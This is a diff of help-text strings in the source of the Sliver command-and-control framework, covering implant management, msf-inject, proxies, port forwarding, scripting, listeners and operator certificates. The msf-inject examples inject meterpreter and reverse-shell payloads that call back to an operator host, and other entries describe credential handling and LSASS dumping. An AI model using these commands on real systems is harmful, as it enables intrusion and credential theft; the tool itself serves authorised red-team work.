+[[.Bold]]About:[[.Normal]] Rebuild an implant generated with --reproducible and compare it to the saved build.
+
+The server rebuilds the implant from its saved config and build seed, a rebuild only matches when the server's go
+toolchain (and garble/mingw, if used) hasn't changed since the implant was generated. Use --file to also check that a
+deployed copy of the implant is the saved build:
+	implants verify approved --file ./deployed.exe`
+
+	implantsLookupHelp = `[[.Bold]]Command:[[.Normal]] implants lookup [marker] [--file]
+[[.Bold]]About:[[.Normal]] Trace a leaked sample back to the build it came from.
+
+Implants generated with --marker embed a unique marker, recorded by the server, as an innocuous looking struct tag. The
+marker's length, encoding and tag are random so markers don't share a pattern, and it is kept in the clear in obfuscated
+builds, so if a sample turns up on e.g. VirusTotal it can be looked up to find the build, profile and builder the sample
+came from. With --file the server searches the sample for the marker of every build. Shellcode is encrypted so the
+marker is not visible in it.
+	implants lookup --file ./sample.exe
+	implants lookup 3f9c2a71d04be865`
 
 	msfHelp = `[[.Bold]]Command:[[.Normal]] msf [--lhost] <options>
 [[.Bold]]About:[[.Normal]] Execute a metasploit payload in the current process.`
 
-	msfInjectHelp = `[[.Bold]]Command:[[.Normal]] inject [--pid] [--lhost] <options>
-[[.Bold]]About:[[.Normal]] Execute a metasploit payload in a remote process.`
+	msfInjectHelp = `[[.Bold]]Command:[[.Normal]] msf-inject [--pid|--spawn] [--lhost] <options>
+[[.Bold]]About:[[.Normal]] Execute a metasploit payload in a remote process.
+
+Use --spawn to pass the session to another framework: the process is started and the payload is injected into
+it, so the implant keeps running if the payload crashes. Start a matching exploit/multi/handler first, or use a
+shell payload (e.g. shell_reverse_tcp) with a foreign listener such as netcat.
+
+[[.Bold]]Examples:[[.Normal]]
+	msf-inject --pid 1234 --lhost 10.0.0.1 --lport 4444 --payload meterpreter_reverse_tcp
+	msf-inject --spawn "C:\Windows\System32\notepad.exe" --lhost 10.0.0.1 --payload meterpreter_reverse_https
+	msf-inject --spawn "/bin/sleep 3600" --lhost 10.0.0.1 --payload shell_reverse_tcp`
 
 	psHelp = `[[.Bold]]Command:[[.Normal]] ps <options>
-[[.Bold]]About:[[.Normal]] List processes on remote system.`
+[[.Bold]]About:[[.Normal]] List processes on remote system.
+
+The server saves the most recent process list of every host. Use --diff to only show the processes that
+started (+) or stopped (-) since then, e.g. to see how EDR or a user responded to an action. The previous
+list may have come from any session or beacon on the same host.`
 
 	pingHelp = `[[.Bold]]Command:[[.Normal]] ping <implant name/session>
 [[.Bold]]About:[[.Normal]] Ping session by name or the active session. This does NOT send an ICMP packet, it just sends a small 
@@ -319,10 +825,21 @@ Downloads can be filtered using the following patterns:
 		^[r-u] will match all characters except r, s, t, and u.
 
 If you need to match a special character (*, ?, '-', '[', ']', '\\'), place '\\' in front of it (example: \\?).
-On Windows, escaping is disabled. Instead, '\\' is treated as path separator.`
+On Windows, escaping is disabled. Instead, '\\' is treated as path separator.
+
+On sessions use --background to keep using the session while the file downloads, see the [[.Bold]]transfers[[.Normal]] command.`
 
 	uploadHelp = `[[.Bold]]Command:[[.Normal]] upload [local src] <remote dst>
-[[.Bold]]About:[[.Normal]] Upload a file to the remote system.`
+[[.Bold]]About:[[.Normal]] Upload a file to the remote system. On sessions use --background to keep using
+the session while the file uploads, see the [[.Bold]]transfers[[.Normal]] command.`
+
+	transfersHelp = `[[.Bold]]Command:[[.Normal]] transfers
+[[.Bold]]About:[[.Normal]] List running and recent uploads and downloads on sessions, including transfers
+started with --background. Several transfers can run on the same session at once.
+
+Implants send each file in a single message, so the progress, rate, and ETA of a running transfer are
+estimated from the measured throughput of the session's previous transfers. The rate of a finished
+transfer is measured.`
 
 	procdumpHelp = `[[.Bold]]Command:[[.Normal]] procdump [pid]
 [[.Bold]]About:[[.Normal]] Dumps the process memory given a process identifier (pid)`
@@ -339,8 +856,17 @@ On Windows, escaping is disabled. Instead, '\\' is treated as path separator.`
 	elevateHelp = `[[.Bold]]Command:[[.Normal]] elevate
 [[.Bold]]About:[[.Normal]] (Windows Only) Spawn a new Sliver session as an elevated process (UAC bypass)`
 
+	executeHelp = `[[.Bold]]Command:[[.Normal]] execute [flags] <command> [arguments]
+[[.Bold]]About:[[.Normal]] Executes a program on the remote system.
+
+With --output the output is printed as the program produces it on sessions, and all at once when the task
+completes on beacons. The timeout still applies to the whole command, use --timeout for long-running programs.
+`
+
 	executeAssemblyHelp = `[[.Bold]]Command:[[.Normal]] execute-assembly [local path to assembly] [arguments]
 [[.Bold]]About:[[.Normal]] (Windows Only) Executes the .NET assembly in a child process.
+
+On sessions the output is printed as the assembly produces it, except with --in-process.
 `
 
 	executeShellcodeHelp = `[[.Bold]]Command:[[.Normal]] execute-shellcode [local path to raw shellcode]
@@ -550,6 +1076,88 @@ Start a tcp pivot on the current session:
 
 	pivots tcp --bind 0.0.0.0
 
+Key exchanges of implants behind a pivot are checked against the replay window of the listener the pivot's
+traffic arrives on (see "help http"). They're timestamped with the implant's own clock since implants behind
+a pivot have no clock skew source, so the listener needs a wide enough --replay-window if their clocks are off.
+`
+	portfwdHelp = `[[.Bold]]Command:[[.Normal]] portfwd
+[[.Bold]]About:[[.Normal]] Port forwarding, the client listens on a port and connections to it are tunneled over the
+C2 channel to a remote address. The remote address is dialed by the implant.
+[[.Bold]]Examples:[[.Normal]]
+Forward port 8080 on the client to port 80 of a host on the implant's network:
+
+	portfwd add --bind 8080 --remote 10.0.0.1:80
+
+Forward udp datagrams, e.g. DNS queries, to a resolver on the implant's network:
+
+	portfwd add --udp --bind 5353 --remote 10.0.0.1:53
+
+Each client address gets its own tunnel, udp tunnels are closed after two minutes without traffic. SOCKS5
+clients can also send udp through 'socks5' proxies with UDP ASSOCIATE.
+`
+	rportfwdHelp = `[[.Bold]]Command:[[.Normal]] rportfwd
+[[.Bold]]About:[[.Normal]] Reverse port forwarding, the implant listens on a port and connections to it are tunneled
+over the C2 channel to a remote address. The remote address is dialed by the server, not the client.
+[[.Bold]]Examples:[[.Normal]]
+Forward connections to port 8080 on the implant to port 80 on the server:
+
+	rportfwd add --bind 8080 --remote 80
+
+Host a payload from a web server the server can reach, on a specific implant interface:
+
+	rportfwd add --bind 10.0.0.5:8443 --remote 192.168.1.20:443
+
+List the implant's reverse port forwards:
+
+	rportfwd
+
+Stop and remove a reverse port forward:
+
+	rportfwd rm --id 1
+
+A bind address without a host listens on all of the implant's interfaces, a remote address without a host
+forwards to 127.0.0.1 on the server.
+`
+	socks5Help = `[[.Bold]]Command:[[.Normal]] socks5
+[[.Bold]]About:[[.Normal]] In-band SOCKS5 proxies tunneled over the session's C2 connection.
+[[.Bold]]Examples:[[.Normal]]
+Start a proxy that allows at most 20 concurrent connections:
+
+	socks5 start --port 1081 --max-conns 20
+
+List the proxies with their connection counts and traffic totals:
+
+	socks5
+
+Stop and remove a proxy:
+
+	socks5 stop --id 1
+
+All traffic shares the C2 channel, a busy client (e.g. a browser) can starve it. Use 'socks5 connections'
+to find the culprit, then 'socks5 kill' or 'socks5 limit' to rein it in.
+
+UDP ASSOCIATE is supported, the client's datagrams are relayed from a local udp port to the implant over
+the connection's tunnel, the implant resolves their destination and sends them from a single udp socket that
+lasts as long as the association (e.g. proxychains with nmap -sU, DNS tools, or Kerberos clients). Fragmented
+datagrams are dropped.
+`
+	socks5ConnectionsHelp = `[[.Bold]]Command:[[.Normal]] socks5 connections [--id <socks5 id>]
+[[.Bold]]About:[[.Normal]] List the open connections through the SOCKS5 proxies: the client's address, the destination
+it asked for, the bytes sent/received, and how long the connection has been open. The destination is read from the
+client's SOCKS5 handshake, it's shown as (handshake) until the client sends its connect request.
+`
+	socks5KillHelp = `[[.Bold]]Command:[[.Normal]] socks5 kill [connection id...] [--id <socks5 id>]
+[[.Bold]]About:[[.Normal]] Close connections through a SOCKS5 proxy, the implant closes its connection to the
+destination as well. Use --id to close every connection of a proxy without stopping it.
+[[.Bold]]Examples:[[.Normal]]
+
+	socks5 kill 4280961935 1866297434
+	socks5 kill --id 1
+`
+	socks5LimitHelp = `[[.Bold]]Command:[[.Normal]] socks5 limit --id <socks5 id> --max-conns <limit>
+[[.Bold]]About:[[.Normal]] Set the number of concurrent connections a SOCKS5 proxy allows, new connections over
+the limit are closed immediately and counted as rejected. Connections that are already open are not affected, use
+'socks5 kill' to close them. A limit of 0 removes the limit.
 `
 	wgSocksHelp = `[[.Bold]]Command:[[.Normal]] wg-socks
 [[.Bold]]About:[[.Normal]] Create a socks5 listener on the implant Wireguard tun interface
@@ -621,13 +1229,26 @@ loot remote C:/foo.txt
 
 # Display the contents of a piece of loot:
 loot fetch
+`
+
+	lootFetchHelp = `[[.Bold]]Command:[[.Normal]] loot fetch
+[[.Bold]]About:[[.Normal]] Display the contents of a piece of loot, or save it with --save.
+
+With --view the loot is shown with a viewer for its content: images (e.g. screenshots) are previewed
+in the terminal with 24-bit color, text is paginated, and binaries are hexdumped. Use --hex to hexdump
+any loot. Control characters in text loot are replaced so they can't affect your terminal.
+
+[[.Bold]]Examples:[[.Normal]]
+loot fetch --view
+loot fetch --hex --save ./loot.bin
 `
 
 	reactionHelp = fmt.Sprintf(`[[.Bold]]Command:[[.Normal]] reaction
 [[.Bold]]About:[[.Normal]] Automate commands in reaction to event(s). The built-in
-reactions do not support variables or logic, they simply allow you to run verbatim
-commands when an event occurs. To implement complex event-based logic we recommend
-using SliverPy (Python) or sliver-script (TypeScript/JavaScript).
+reactions do not support variables, they run verbatim commands in order when an event
+occurs, optionally only for sessions/beacons matching a filter and with delays between
+commands. To implement complex event-based logic we recommend using SliverPy (Python)
+or sliver-script (TypeScript/JavaScript).
 
 [[.Bold]]Reactable Events:[[.Normal]]
 % 20s  Triggered when a new session is opened to a target
@@ -654,10 +1275,22 @@ The built-in reactions do not support variables or logic, they simply allow you
 run verbatim commands when an event occurs. To implement complex event-based logic 
 we recommend using SliverPy (Python) or sliver-script (TypeScript/JavaScript).
 
+Commands run in order on the new session or beacon, a "sleep <duration>" line waits
+before running the next command (e.g. "sleep 30s"). On beacons the commands are queued
+as tasks, and every command is checked before any are queued so a command that isn't
+available for the beacon (e.g. "shell") stops the whole reaction. Use --stop-on-error
+to stop running commands after one fails.
+
+Session and beacon events can be filtered with --os, --tag (all tags must match), and
+--subnet (the remote address must be in one of the subnets).
+
 [[.Bold]]Examples:[[.Normal]]
 # The command uses interactive menus to build a reaction. Simply run:
 reaction set
 
+# Only react to Windows beacons connecting from 10.0.0.0/8
+reaction set --event beacon-registered --os windows --subnet 10.0.0.0/8
+
 [[.Bold]]Reactable Events:[[.Normal]]
 % 20s  Triggered when a new session is opened to a target
 % 20s  Triggered on changes to session metadata
@@ -682,6 +1315,154 @@ reaction set
 [[.Bold]]Examples:[[.Normal]]
 # Remove a reaction
 reaction unset --id 1
+`
+	scriptsHelp = `[[.Bold]]Command:[[.Normal]] scripts
+[[.Bold]]About:[[.Normal]] List the loaded lua scripts. Scripts can query sessions, beacons, tasks and
+loot, execute programs, run console commands, and react to events. Script names are resolved
+relative to the current directory and ~/.sliver-client/scripts, the .lua extension is optional.
+
+[[.Bold]]Script API:[[.Normal]]
+sliver.sessions()                          All sessions
+sliver.beacons()                           All beacons
+sliver.target(id_or_name)                  A session/beacon and "session" or "beacon", nil if not found
+sliver.tasks(beacon)                       A beacon's tasks
+sliver.task(task_id)                       A beacon task including its request/response
+sliver.loot()                              All loot
+sliver.loot_content(loot_id)               The content of a piece of loot
+sliver.loot_add(name, content)             Add a piece of text loot
+sliver.execute(target, path, args, fn)     Execute a program, beacons call fn with the result
+sliver.console(command, target)            Run a console command on a session/beacon (default: yours)
+sliver.on(event_type, fn)                  Call fn with each event of the type, "*" for all events
+sliver.info/success/warn/error(fmt, ...)   Print a message
+
+Values are tables with the protobuf field names (e.g. session.Hostname). Errors are raised as lua
+errors and can be caught with pcall(), sliver.console() raises one if the command prints an error.
+Commands run by scripts never change the session/beacon you're interacting with. Script arguments
+are in the global 'arg' table. Events that arrive while a handler runs may be handled in any order.
+
+[[.Bold]]Examples:[[.Normal]]
+-- Add a note to the loot whenever a new session opens
+sliver.on("session-connected", function(event)
+    local session = event.Session
+    sliver.loot_add("new-" .. session.Name, session.Username .. "@" .. session.Hostname)
+end)
+`
+	scriptsLoadHelp = `[[.Bold]]Command:[[.Normal]] scripts load [SCRIPT] [ARGS...]
+[[.Bold]]About:[[.Normal]] Load a lua script, its event handlers run until it's unloaded or the client
+exits. Loading a script with the same name as a loaded script replaces it.
+
+[[.Bold]]Examples:[[.Normal]]
+scripts load ~/auto-enum.lua
+`
+	scriptsUnloadHelp = `[[.Bold]]Command:[[.Normal]] scripts unload [NAME]
+[[.Bold]]About:[[.Normal]] Unload a lua script, removing its event handlers.
+`
+	scriptsRunHelp = `[[.Bold]]Command:[[.Normal]] scripts run [SCRIPT] [ARGS...]
+[[.Bold]]About:[[.Normal]] Run a lua script once, the interpreter is closed when the script returns.
+
+[[.Bold]]Examples:[[.Normal]]
+# Run whoami on every session
+scripts run whoami-all
+`
+	macrosHelp = `[[.Bold]]Command:[[.Normal]] macros
+[[.Bold]]About:[[.Normal]] List command macros. A macro is a named sequence of commands that can be run
+on any session or beacon, $1..$N in the commands are replaced with the macro's arguments and $@ with
+all of them. Macros are stored in ~/.sliver-client/macros.json.
+`
+	macrosAddHelp = `[[.Bold]]Command:[[.Normal]] macros add [NAME]
+[[.Bold]]About:[[.Normal]] Add a macro, or replace an existing macro with the same name.
+
+[[.Bold]]Examples:[[.Normal]]
+macros add recon -d "basic situational awareness" -c whoami -c netstat -c ps -c screenshot
+macros add grab -c "download $1" -c "rm $1"
+`
+	macrosRmHelp = `[[.Bold]]Command:[[.Normal]] macros rm [NAME]
+[[.Bold]]About:[[.Normal]] Remove a macro.
+`
+	macrosRunHelp = `[[.Bold]]Command:[[.Normal]] macros run [NAME] [ARGS...]
+[[.Bold]]About:[[.Normal]] Run a macro's commands on the active session or beacon. All of the commands
+are checked before any of them run, a macro containing a command that isn't available for the target
+(e.g. an interactive command on a beacon) is not run. On beacons the tasks are queued in order. The macro
+stops at the first command that fails.
+
+[[.Bold]]Examples:[[.Normal]]
+macros run recon
+macros run grab /tmp/loot.txt
+`
+	tagHelp = `[[.Bold]]Command:[[.Normal]] tag
+[[.Bold]]About:[[.Normal]] Add or remove tags on the active session or beacon, without flags the current
+tags are shown. Tags are stored on the server and shared with all operators, use them to filter the
+session and beacon lists with "sessions -f tag:<tag>" and "beacons -f tag:<tag>".
+
+[[.Bold]]Examples:[[.Normal]]
+tag --add dc,prod
+tag --remove prod
+`
+	noteHelp = `[[.Bold]]Command:[[.Normal]] note [TEXT...]
+[[.Bold]]About:[[.Normal]] Show or set a free-text note on the active session or beacon. Notes are stored
+on the server and shared with all operators, and are shown by the "info" command.
+
+[[.Bold]]Examples:[[.Normal]]
+note "primary domain controller, do not reboot"
+note --clear
+`
+	colorHelp = `[[.Bold]]Command:[[.Normal]] color [COLOR]
+[[.Bold]]About:[[.Normal]] Set the color the active session or beacon is displayed in by the "sessions"
+and "beacons" commands, without arguments the available colors are listed.
+
+[[.Bold]]Examples:[[.Normal]]
+color red
+color --clear
+`
+	graphHelp = `[[.Bold]]Command:[[.Normal]] graph [--format text|dot|html] [--save FILE]
+[[.Bold]]About:[[.Normal]] Show the server's listeners, the sessions that connected through each listener, and
+the sessions pivoting through them as a tree. Sessions whose listener is no longer running are shown under
+"unknown listener". Beacons are not shown, they don't hold a connection to a listener.
+
+The graph can be exported as a Graphviz DOT file or a standalone HTML page.
+
+[[.Bold]]Examples:[[.Normal]]
+graph
+graph --format dot --save topology.dot
+graph --format html --save topology.html
+`
+	historyHelp = `[[.Bold]]Command:[[.Normal]] history [QUERY...]
+[[.Bold]]About:[[.Normal]] Show or search the command history of the active session or beacon. The history
+is stored on the server and shared with all operators, it's restored whenever you interact with the session
+or beacon again (even from another client), and Ctrl-R searches it at the prompt. The query is matched
+fuzzily, its characters must appear in the command in order, best matches are shown first.
+
+[[.Bold]]Examples:[[.Normal]]
+history
+history dl passwd
+history --operator alice --limit 10
+`
+	shellHelp = `[[.Bold]]Command:[[.Normal]] shell
+[[.Bold]]About:[[.Normal]] Start an interactive shell on the remote system (sessions only). On Linux and
+macOS the shell runs in a PTY that follows the size of your terminal, and Ctrl-C/Ctrl-Z are sent to the
+remote PTY like in a local terminal. Without a PTY (Windows, or --no-pty) Ctrl-C (and Ctrl-\ and Ctrl-Z on
+Linux/macOS) are forwarded as signals to the command running in the shell instead of interrupting the
+console. Windows shells are switched to UTF-8 output.
+`
+	watchHelp = `[[.Bold]]Command:[[.Normal]] watch <ps|netstat|ifconfig>
+[[.Bold]]About:[[.Normal]] Re-run a situational awareness command on an interval and refresh the display,
+e.g. while waiting for a user to launch a target application. Rows that weren't in the first run are
+highlighted in green, rows from the first run that have since disappeared are shown in red at the bottom.
+Press enter to stop, or use --count to stop after a number of runs. Sessions only.
+
+[[.Bold]]Examples:[[.Normal]]
+watch ps --exe keepass
+watch --interval 10s --changes netstat
+`
+	watchPsHelp = `[[.Bold]]Command:[[.Normal]] watch ps
+[[.Bold]]About:[[.Normal]] Watch the remote processes, new processes are highlighted.
+`
+	watchNetstatHelp = `[[.Bold]]Command:[[.Normal]] watch netstat
+[[.Bold]]About:[[.Normal]] Watch the network connections, new connections are highlighted. Addresses are
+always numeric so that the implant's host isn't resolving names on every run.
+`
+	watchIfconfigHelp = `[[.Bold]]Command:[[.Normal]] watch ifconfig
+[[.Bold]]About:[[.Normal]] Watch the network interfaces, new addresses are highlighted (e.g. a VPN connecting).
 `
 	dllHijackHelp = `[[.Bold]]Command:[[.Normal]] dllhijack
 [[.Bold]]About:[[.Normal]] Prepare and plant a DLL on the remote system for a hijack scenario.
@@ -724,6 +1505,33 @@ More information: https://github.com/mandatoryprogrammer/CursedChrome
 
 External builders allow the Sliver server offload implant builds onto external machines.
 For more information: https://github.com/BishopFox/sliver/wiki/External-Builders
+
+Builds are queued on the server, higher --build-priority builds are sent to a builder first and a
+builder started with --max-concurrent-builds is never sent more than that many builds at once.
+Identical build requests are deduplicated, and if an identical build has already completed (and is not
+burned) it is returned immediately instead of being rebuilt, use --no-cache to force a new build.
+`
+
+	toolchainsHelp = `[[.Bold]]Command:[[.Normal]] toolchains
+[[.Bold]]About:[[.Normal]] List the cross-compilers the server uses for shared library builds.
+
+Shared libraries (and anything else built with cgo) need a C cross-compiler for every target that isn't the server's
+own platform. The server uses, in order: the SLIVER_*_CC_* environment variables, mingw/osxcross/musl-cross at their
+default paths, and finally a zig toolchain it installed itself. zig bundles the mingw, musl and macos libcs so a single
+download covers every target. When a build has no cross-compiler the server installs zig automatically, unless
+"disable_auto_install" is set in the "toolchains" section of the server config. Builds generated with --cc-backend
+only use that backend (system or zig).
+`
+
+	toolchainsInstallHelp = `[[.Bold]]Command:[[.Normal]] toolchains install [--version]
+[[.Bold]]About:[[.Normal]] Download and install zig on the server, it's used for every target without another cross-compiler.
+
+The download is verified against the sha256 in zig's release index (https://ziglang.org/download/index.json, the
+"index_url" of the server config can point to a mirror). The version defaults to the "zig_version" of the server config.
+`
+
+	toolchainsRmHelp = `[[.Bold]]Command:[[.Normal]] toolchains rm <version>
+[[.Bold]]About:[[.Normal]] Remove an installed zig version from the server.
 `
 
 	credsHelp = `[[.Bold]]Command:[[.Normal]] creds
@@ -1219,7 +2027,861 @@ Sliver uses the same hash identifiers as Hashcat (use the #):
 % 10s - One hash per line.
 % 10s - A file containing lines of 'username:hash' pairs.
 % 10s - A CSV file containing 'username,hash' pairs (additional columns ignored).
-`, creds.HashNewlineFormat, creds.UserColonHashNewlineFormat, creds.CSVFormat)
+% 10s - Detect the format of each line (default), supports pwdump/secretsdump, /etc/shadow,
+             Responder net-NTLMv1/v2, Kerberos TGS-REP/AS-REP, 'username:hash', and bare hashes.
+
+If no --hash-type is specified the hash type of each credential is detected, credentials
+with a hash type that cannot be detected are skipped.
+`, creds.HashNewlineFormat, creds.UserColonHashNewlineFormat, creds.CSVFormat, creds.AutoFormat)
+
+	dashboardHelp = `[[.Bold]]Command:[[.Normal]] dashboard <options>
+[[.Bold]]About:[[.Normal]] Start the web dashboard, which displays sessions, beacons, jobs, and loot and provides a basic interactive console.
+
+The dashboard requires mutual TLS using an operator certificate, you can convert an operator config into a browser-importable certificate:
+
+	jq -r .certificate operator.cfg > operator.crt
+	jq -r .private_key operator.cfg > operator.key
+	openssl pkcs12 -export -in operator.crt -inkey operator.key -out operator.p12
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+	dashboard --lport 8443 --persistent
+`
+
+	mythicBridgeHelp = `[[.Bold]]Command:[[.Normal]] mythic-bridge --url <url> --payload-uuid <uuid>
+[[.Bold]]About:[[.Normal]] Start a job that makes Sliver sessions appear as callbacks in a Mythic instance, so Mythic operators can task them.
+
+Each session checks in through a Mythic HTTP C2 profile using the UUID of a payload created in Mythic. Its payload type must
+define the commands the bridge translates: shell, run, ls, cd, pwd, and ps. Messages are not encrypted by the bridge, use
+an https C2 profile and a payload without AES. Beacons are not bridged, and Mythic callbacks do not appear in Sliver.
+
+Tasks from Mythic are sent by the server itself, they are not subject to the operator opsec policy.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+
+	mythic-bridge --url https://mythic.example.com/data --payload-uuid 5a5d4e45-7b8f-4b34-9e5e-0f7a2a9d3c11
+	mythic-bridge --url https://10.0.0.5/data --payload-uuid 5a5d4e45-7b8f-4b34-9e5e-0f7a2a9d3c11 --skip-verify --persistent
+`
+
+	listenersHelp = `[[.Bold]]Command:[[.Normal]] listeners <operation>
+[[.Bold]]About:[[.Normal]] Manage listener profiles.
+
+A listener profile is a named group of listeners that are started and stopped together. Profiles can be
+started automatically when the server starts (--autostart), and can depend on other profiles which are
+always started first. Profiles with no dependency relationship are started in --order, then by name.
+Add a listener to a profile by passing --listener-profile to any of the mtls, wg, dns, http, or https
+commands, the listener is saved to the profile instead of being started.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+Create a profile that starts with the server:
+	listeners new core --autostart
+
+Add listeners to the profile:
+	mtls --lport 8888 --listener-profile core
+	https --domain example.com --listener-profile core
+
+Create a profile that depends on another profile:
+	listeners new fallback --depends-on core
+
+Start/stop a profile:
+	listeners start fallback
+	listeners stop fallback
+`
+
+	httpC2Help = `[[.Bold]]Command:[[.Normal]] http-c2 <options> <operation>
+[[.Bold]]About:[[.Normal]] View or update the HTTP C2 config (http-c2.json).
+
+Saving a config creates a new version and applies it to all running HTTP(S) listeners without
+restarting them, existing sessions are not interrupted. The previous versions are kept on the server
+(configs/http-c2-versions) and listeners continue to serve their routes, so implants generated with an
+older version of the config can still connect. New implants are always generated with the current version.
+DNS listeners do not use the HTTP C2 config and are not affected.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+Download, edit, and apply the config:
+	http-c2 --save http-c2.json
+	http-c2 save http-c2.json
+
+Apply changes made to the config file on the server:
+	http-c2 reload
+`
+
+	reloadConfigHelp = `[[.Bold]]Command:[[.Normal]] reload-config
+[[.Bold]]About:[[.Normal]] Re-read the server config (configs/server.json) and apply it without restarting the server.
+
+The log level, gRPC payload logging, exporters, metrics endpoint, recordings, GeoIP databases, and the
+opsec policy (configs/opsec.json) are reloaded. Other settings (e.g. the daemon host and port, persistent jobs) still require a restart. A server
+running in daemon mode also reloads its config when it receives SIGHUP.
+
+To take a listener out of rotation for maintenance see 'jobs --drain'.
+`
+
+	captureHelp = `[[.Bold]]Command:[[.Normal]] capture [--session] [--limit] [--payloads]
+[[.Bold]]About:[[.Normal]] Show the decrypted envelopes captured by the server.
+
+Envelope capture is a debugging aid for transport and c2 profile issues, it records every decrypted envelope
+sent to or received from an implant: the direction, transport, session or beacon, envelope id and message type,
+size, and for responses the time since the request was sent. Captures are stopped by default, see 'capture start'.
+
+Message types are the numbers defined in protobuf/sliverpb/constants.go.
+`
+
+	captureStartHelp = `[[.Bold]]Command:[[.Normal]] capture start [--payloads] [--max-entries] [--file] [--session]
+[[.Bold]]About:[[.Normal]] Start capturing envelopes.
+
+Envelopes are kept in a ring buffer on the server, only the most recent --max-entries are kept. With --file every
+envelope is also appended (as json lines) to a file in the server's captures directory.
+
+By default only the envelope metadata is captured, use --payloads to also keep the decrypted data. Payloads contain
+task results such as downloads and credentials, only enable them when needed:
+	capture start --session 1b2c3d4e --payloads
+`
+
+	captureStopHelp = `[[.Bold]]Command:[[.Normal]] capture stop
+[[.Bold]]About:[[.Normal]] Stop capturing envelopes, the captured envelopes can still be viewed until the next capture is started.`
+
+	presenceHelp = `[[.Bold]]Command:[[.Normal]] presence
+[[.Bold]]About:[[.Normal]] Show which operators are interacting with which sessions and beacons, and any locks.
+
+Operators are shown for a target when they 'use' it or task it, and are dropped after 15 minutes without
+a task, when they background the target, or when they disconnect.`
+
+	lockHelp = `[[.Bold]]Command:[[.Normal]] lock [--reason <reason>] [--force]
+[[.Bold]]About:[[.Normal]] Lock the active session or beacon so other operators can't task it.
+
+This is a soft-lock: other operators see who is working the target and their tasks are refused until it's
+unlocked, however any operator can take over the lock with --force. Locks are removed when a session closes.
+
+[[.Bold]][[.Underline]]Examples:[[.Normal]]
+
+	lock --reason "dumping lsass, hands off"
+	lock --force`
+
+	unlockHelp = `[[.Bold]]Command:[[.Normal]] unlock [--force]
+[[.Bold]]About:[[.Normal]] Unlock the active session or beacon, use --force to break another operator's lock.`
+
+	verifyHelp = `[[.Bold]]Command:[[.Normal]] verify <file>
+[[.Bold]]About:[[.Normal]] Verify that an artifact was generated by this server.
+
+The server records a signed provenance record for every implant it builds (including builds uploaded by
+external builders) and every MSF stager it generates. Each record contains the artifact's SHA256 hash,
+the profile and sanitized implant configuration it was built from, the builder, and the toolchain
+versions used. Records are signed with the server's artifact signing key.
+
+The verify command hashes the local file, fetches the matching record, and checks the record signature.
+
+[[.Bold]][[.Underline]]Examples:[[.Normal]]
+
+	verify ./RUDE_FRIEND.exe
+`
+
+	httpsHelp = `[[.Bold]]Command:[[.Normal]] https [flags]
+[[.Bold]]About:[[.Normal]] Start an HTTPS listener.
+
+By default a self-signed certificate is generated for --domain, or you can provide your own with --cert and --key.
+
+[[.Bold]][[.Underline]]Let's Encrypt[[.Normal]]
+--lets-encrypt uses HTTP-01 challenges, which requires the server to be reachable on port 80 for --domain.
+
+--acme-dns uses DNS-01 challenges instead, so no inbound port 80 is needed and wildcard names can be
+requested with --acme-domains. The DNS provider credentials are read from the "acme" section of the
+server config (configs/server.json):
+
+	"acme": {
+		"email": "operator@example.com",
+		"route53": { "access_key_id": "", "secret_access_key": "", "hosted_zone_id": "" },
+		"cloudflare": { "api_token": "", "zone_id": "" }
+	}
+
+If the Route53 keys are blank the default AWS credential chain is used. Zone IDs are optional and are looked
+up from the requested names when omitted. Certificates are cached and renewed automatically.
+
+[[.Bold]][[.Underline]]Access Control[[.Normal]]
+Clients denied by --allow-cidr/--deny-cidr or --allow-country/--deny-country never reach the C2 handlers,
+they are served the --website content (or a 404) exactly like a request that does not match the C2 profile.
+Deny rules take precedence, if any allow rules are given a client must match at least one of them.
+
+--rate-limit caps the requests per minute from one client, a client that exceeds it is banned (decoy content
+only) for the --ban duration. Every request counts towards the limit, including implant traffic, so set it
+well above your implants' poll rate. Behind a redirector use --trust-proxy-headers, otherwise the redirector
+itself is rate limited.
+
+Country rules require a geoip database, a MaxMind DB (e.g. GeoLite2-Country.mmdb) or a CSV of
+"first ip,last ip,country code" ranges such as db-ip.com's free country database, set "country_database"
+in the "geoip" section of the server config (configs/server.json).
+
+[[.Bold]][[.Underline]]Replay Protection[[.Normal]]
+Implants timestamp their key exchanges (except those generated before key exchanges could be selected with
+generate --kex), the listener rejects key exchanges timestamped further than --replay-window from the server's
+clock, and requests that reuse a nonce within a session. Key exchanges are remembered across server restarts until they're outside of the window (forever
+for older implants), so captured implant traffic can't be replayed to probe the listener or spoof a session.
+Implants correct for clock skew using the server's Date header, use --replay-window 0 to disable the checks.
+DNS implants and implants behind a pivot have no clock skew source, they're checked against their own clock
+(pivots use the window of the listener their traffic arrives on), so widen the window if their clocks are off.
+
+[[.Bold]][[.Underline]]Client Certificates[[.Normal]]
+--require-client-cert makes the listener require a certificate signed by the server's implant CA during the TLS
+handshake, clients without one never reach the C2 handlers or the --website content. Implants must be generated
+with --http-client-cert.
+
+[[.Bold]][[.Underline]]Examples:[[.Normal]]
+
+	https --domain example.com --lets-encrypt
+	https --domain cdn.example.com --acme-dns cloudflare --acme-domains example.com,*.example.com
+	https --domain example.com --allow-country US,CA --deny-cidr 198.51.100.0/24 --rate-limit 120
+	https --domain example.com --require-client-cert
+`
+
+	operatorCertsHelp = `[[.Bold]]Command:[[.Normal]] operator-certs
+[[.Bold]]About:[[.Normal]] List the client certificates issued to operators, including their serial numbers, expiry, and revocation status.
+
+Use the serial number with revoke-operator to revoke a single operator config (e.g. a lost laptop) without affecting the
+operator's other configs.
+
+Certificate lifetimes can be set per config with new-operator --lifetime, or for all new configs with "cert_lifetime_days"
+in the "operators" section of the server config. Expired certificates are rejected by the multiplayer listener.
+`
+
+	revokeOperatorHelp = `[[.Bold]]Command:[[.Normal]] revoke-operator --serial <serial>
+[[.Bold]]About:[[.Normal]] Revoke a single operator config by its certificate serial number (see operator-certs).
+
+The certificate is rejected during the TLS handshake by the multiplayer listener and web dashboard, and the auth token
+issued with it is removed. The operator CRL is updated in the server's certs directory for use with external TLS proxies.
+Proxies can also check operator certificates with OCSP, set "ocsp_listen" (the responder's address) and "ocsp_url" (the
+responder URL embedded in new operator certificates) in the "operators" section of the server config.
+
+To revoke every config for an operator use kick-operator instead.
+`
+
+	rotateOperatorCAHelp = `[[.Bold]]Command:[[.Normal]] rotate-operator-ca --force
+[[.Bold]]About:[[.Normal]] Replace the operator certificate authority.
+
